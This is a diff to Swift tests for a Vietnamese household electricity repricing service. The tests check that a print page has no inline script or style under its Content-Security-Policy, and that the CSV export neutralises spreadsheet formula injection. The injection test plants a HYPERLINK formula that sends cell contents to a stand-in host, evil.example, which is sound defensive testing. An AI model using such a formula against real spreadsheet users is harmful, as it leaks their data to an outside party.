@@ -68,7 +68,12 @@ import Testing
 
             let page = try await households.get("api/v1/repricing.html", token: officer)
             #expect(page.status == 200)
-            #expect(page.text.contains("@page { size: A4 landscape"))
+            #expect(page.text.contains(#"<link rel="stylesheet" href="/assets/print-1.css">"#))
+            #expect(!page.text.contains("<style") && !page.text.contains("onclick") && !page.text.contains("style="),
+                    "no inline style or script, which the pages' Content-Security-Policy blocks")
+            let sheet = try await households.get("assets/print-1.css", token: officer)
+            #expect(sheet.text.contains("@page { size: A4 landscape"))
+            #expect(try await households.get("assets/print-1.js", token: officer).text.contains("window.print()"))
             #expect(page.text.contains("Danh sách khách hàng cần điều chỉnh số hộ sử dụng điện"))
             #expect(page.text.contains("<td>PC05TK0000002</td><td>Phạm Thị Dung</td>"))
             #expect(page.text.contains("2 khách hàng"))
@@ -100,5 +105,20 @@ import Testing
         let entries = try pool.read { db in try Reconciliation(personalData: personalData).differences(unit: "PC05TK", in: db) }
         #expect(entries.map(\.name) == ["Phạm Thị Dung 1", "Phạm Thị Dung 2", "Phạm Thị Dung 3"])
         #expect(entries.map(\.address) == ["Tổ 5, phường An Mỹ 1", "Tổ 5, phường An Mỹ 2", "Tổ 5, phường An Mỹ 3"])
+    }
+
+    @Test func theExportWritesANameOrAddressASpreadsheetWouldRunAsText() async throws {
+        try await HouseholdsHarness.run { households in
+            let corporation = try await households.token(.householdsOfficer, unit: "CORP")
+            _ = try await households.upload("api/v1/customer-imports", csv: [
+                CustomerImportTests.header,
+                #"PC05TK0000009,"=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")",@SUM(A1:A9),PC05TK,urban,2"#,
+            ].joined(separator: "\n"), token: corporation).expect(200)
+            let officer = try await households.token(.householdsOfficer, unit: Samples.unit)
+            let csv = try await households.get("api/v1/repricing.csv", token: officer)
+            #expect(csv.status == 200)
+            let lines = String(decoding: csv.body.dropFirst(3), as: UTF8.self).components(separatedBy: "\r\n")
+            #expect(lines[1].hasPrefix(#"1,PC05TK0000009,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")",'@SUM(A1:A9),PC05TK,2,1,−1,"#))
+        }
     }
 }
